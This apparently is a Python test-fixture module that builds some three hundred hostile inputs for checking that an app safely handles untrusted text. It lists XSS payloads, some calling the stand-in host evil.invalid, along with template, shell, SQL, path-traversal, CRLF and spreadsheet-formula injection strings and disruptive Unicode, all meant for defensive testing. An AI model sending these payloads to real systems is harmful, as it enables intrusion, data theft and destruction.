"""Texts as an enemy would write them into a scan, a shop's name or a comment: some three hundred, each named.

`MARK` is what a browser would run if it ran anything of ours: a test looks whether `window.pwned` was set, or a
dialog opened, or a request left for `evil.invalid`. `FORMULAS` are what a spreadsheet would calculate.
"""

from __future__ import annotations

from itertools import product
from typing import Final

__all__ = ["FORMULAS", "MARK", "TEXTS"]

MARK: Final = "window.pwned=1"
_CALLS: Final = (MARK, "alert(1)", "fetch('//evil.invalid/')")

_MARKUP: Final = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img src=x onerror=\"{}\">",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mi xlink:href=\"javascript:{}\">x</mi></math>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe src=\"javascript:{}\"></iframe>",
    "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
    "<a href=\"javascript:{}\">点我</a>",
    "<form action=\"javascript:{}\"><button>好</button></form>",
    "<object data=\"javascript:{}\"></object>",
    "<embed src=\"javascript:{}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<base href=//evil.invalid/>{}",
    "<link rel=stylesheet href=//evil.invalid/{}>",
    "<style>@import'//evil.invalid/{}'</style>",
    "\" onmouseover=\"{}\" x=\"",
    "' onmouseover='{}' x='",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</option></select><script>{}</script>",
    "</svg><script>{}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<div hx-get=\"//evil.invalid/\" hx-trigger=load>{}</div>",
    "<div hx-on:htmx:load=\"{}\">x</div>",
    "<div data-hx-on:load=\"{}\">x</div>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<script\x00>{}</script>",
    "<\x0bscript>{}</script>",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "[点我](javascript:{})",
    "![图](//evil.invalid/{})",
    "<!--#exec cmd=\"{}\"-->",
)  # fmt: skip

_TEMPLATES: Final = (
    "{{7*7}}", "{{config}}", "{{ ''.__class__.__mro__ }}", "{% for i in range(9**9) %}x{% endfor %}", "{%raw%}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(secret)s", "%s%s%s%n", "{{{{", "}}", "{#", "#}",
    "$(reboot)", "`reboot`", "; reboot", "| reboot", "&& reboot", "$IFS", "../../../../etc/passwd", "..\\..\\boot.ini",
    "/etc/passwd\x00.png", "file:///etc/passwd", "//evil.invalid/x", "http://169.254.169.254/latest/meta-data",
    "' OR '1'='1", "'; DROP TABLE tickets; --", "\" OR \"\"=\"", "1); DELETE FROM parcels; --", "%' ESCAPE '", "_%_%",
    "\\'; --", "UNION SELECT * FROM orders", "*", "?", "NaN", "null", "None", "undefined", "true", "-0", "1e309",
    "[object Object]", "{}", "[]", "\"", "'", "\\", "\\n", "\\u0000", "%00", "%0d%0aSet-Cookie: a=b", "\r\nX-Evil: 1",
    "a\r\n\r\n<html>", "@all", "@所有人", "<@all>", "<font color=\"warning\">假的</font>", "[CQ:at,qq=all]", "&#91;CQ:at,qq=all]",
    "# 标题", "> 引用", "- 列表", "1. 一", "**粗**", "~~删~~", "```\n代码\n```", "|a|b|\n|-|-|", "---", "<br>" * 40, "\\",
)  # fmt: skip

FORMULAS: Final = (
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"//evil.invalid\",\"点\")", "=WEBSERVICE(\"//evil.invalid\")", "=DDE(\"a\";\"b\")",
    "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|'/C calc'!A0", "@SUM(1,1)", "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "\"=1+1", "'=1+1", "\",=1+1", ";=1+1", ",=1+1", "|=1+1", "%0A=1+1", "=1+1\n=2+2", "1,=1+1", "a\n=1+1", "a\r\n=1+1", "\x00=1+1",
    "\x1f=1+1", "=\x00cmd", "{=1+1}", "=IMPORTXML(\"//evil.invalid\")", "=RTD(\"a\",\"b\")", "00012", "1E5", "123456789012345678", "2026-11-11",
)  # fmt: skip

_UNICODE: Final = (
    "\u202e倒着写的字\u202c", "\u202dx\u202c", "\u2066x\u2069", "\u2067x\u2069", "\u2068x", "\u200e\u200f", "\u061c", "a\u0300" * 60,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "👨‍👩‍👧‍👦" * 20, "🇨🇳🚚", "\U0001f4a9", "𠜎𠜱𠝹", "\ufdfd" * 9, "\u0000", "\u0007", "\u001b[31m红", "\u001b]0;x\u0007", "\u0085",
    "\u2028", "\u2029", "\ufeff", "\ufffd", "\uffff", "\ud7ff", "\ue000", "\u00ad软\u00ad连", "\u200b" * 30, "\u3000", "İıſK", "ﬁ", "Ⅷ", "①", "ａｂｃ",
    "长" * 10_000, "w" * 10_000, "字 " * 3_000, "\n" * 500, "\t" * 500, "行一\n行二\r行三\r\n行四", "x\x08\x08y", "\x7f", "\x9b31m",
)  # fmt: skip

TEXTS: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(
        [
            *(shape.replace("{}", call) for shape, call in product(_MARKUP, _CALLS)),
            *_TEMPLATES,
            *FORMULAS,
            *_UNICODE,
        ]
    )
)
assert len(TEXTS) >= 300
